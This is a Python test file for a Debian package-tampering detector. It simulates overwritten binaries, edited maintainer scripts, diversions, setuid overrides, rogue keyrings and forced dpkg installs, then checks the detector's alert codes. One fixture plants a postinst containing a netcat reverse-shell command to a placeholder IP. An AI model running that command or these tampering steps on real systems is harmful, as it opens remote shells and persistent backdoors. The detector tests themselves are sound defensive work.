# SPDX-License-Identifier: GPL-3.0-or-later
"""What is done to packages by hand: each is told, with a code and severity of its own."""

from __future__ import annotations

from pathlib import Path
from typing import Callable, Set, Tuple

import pytest
from support.debian import Debian
from support.packaged import KEY, OLD, TOOL, Packaged, replace_digest, upgrade, with_tool


@pytest.fixture(name="world")
def _world(tmp_path: Path) -> Packaged:
    return with_tool(tmp_path)


def trojan(debian: Debian) -> None:
    debian.disk({TOOL: b"evil"})


def trojan_with_list(debian: Debian) -> None:
    trojan(debian)
    replace_digest(debian, OLD[TOOL], b"evil")


def edit_script(debian: Debian) -> None:
    (debian.info / "bash.postinst").write_bytes(b"#!/bin/sh\nnc -e sh 192.0.2.1 4444\n")


def add_script(debian: Debian) -> None:
    (debian.info / "bash.preinst").write_bytes(b"#!/bin/sh\n")


def divert(debian: Debian) -> None:
    debian.divert(TOOL, f"{TOOL}.distrib", ":")


def override(debian: Debian) -> None:
    (debian.root / "var/lib/dpkg/statoverride").write_text(f"root root 4755 {TOOL}\n")


def hold(debian: Debian) -> None:
    debian.install("bash", files={"/usr/bin/bash": b"bash"}, state="hold ok installed")


def remove(debian: Debian) -> None:
    del debian.paragraphs["bash"]
    debian.write()


def downgrade(debian: Debian) -> None:
    debian.install("bash", "0.9-1", files={"/usr/bin/bash": b"bash"})


def evil(debian: Debian) -> None:
    """``dpkg -i evil.deb`` of the same name and a higher version, its own lists in order."""
    upgrade(debian, "9.9-9", {**OLD, TOOL: b"evil"})


def stranger(debian: Debian) -> None:
    debian.install("netcat", files={"/usr/bin/nc": b"nc"})


def keyring(debian: Debian) -> None:
    debian.disk({"/usr/share/keyrings/evil.gpg": b"key"})


def same_version(debian: Debian) -> None:
    """A package of the very version that is installed, built by somebody else."""
    upgrade(debian, "1.0-1", {**OLD, TOOL: b"evil"})


ACTIONS = [
    pytest.param(trojan, {("package_file_differs", "critical", TOOL)}, id="A50 a program overwritten"),
    pytest.param(
        trojan_with_list,
        {("package_lists_edited", "critical", KEY)},
        id="A15 a program overwritten and its digest edited",
    ),
    pytest.param(edit_script, {("package_script_changed", "critical", "bash:amd64")}, id="A42 a script edited"),
    pytest.param(add_script, {("package_script_changed", "critical", "bash:amd64")}, id="A42 a script added"),
    pytest.param(divert, {("package_diversion", "warning", f"diversion {TOOL}")}, id="A15 a local diversion"),
    pytest.param(override, {("package_override", "critical", f"statoverride {TOOL}")}, id="setuid by override"),
    pytest.param(hold, {("package_held", "warning", "bash:amd64")}, id="held back"),
    pytest.param(remove, {("package_removed", "warning", "bash:amd64")}, id="removed"),
    pytest.param(downgrade, {("package_downgraded", "warning", "bash:amd64")}, id="A15 a downgrade"),
    pytest.param(evil, {("package_upgraded", "warning", KEY)}, id="A15 dpkg -i of a higher version, no list to say"),
    pytest.param(stranger, {("package_added", "warning", "netcat:amd64")}, id="A15 a new package"),
    pytest.param(keyring, {("package_keyring", "warning", "keyring /usr/share/keyrings/evil.gpg")}, id="a keyring"),
    pytest.param(same_version, {("package_lists_edited", "critical", KEY)}, id="A15 dpkg -i of the same version"),
]


@pytest.mark.parametrize(("act", "expected"), ACTIONS)
def test_an_action_is_told(act: Callable[[Debian], None], expected: Set[Tuple[str, str, str]], world: Packaged) -> None:
    act(world.debian)
    told = {entry[:3] for entry in world.standing() if entry[1] != "info"}

    assert expected == told
    assert [] != world.messages()
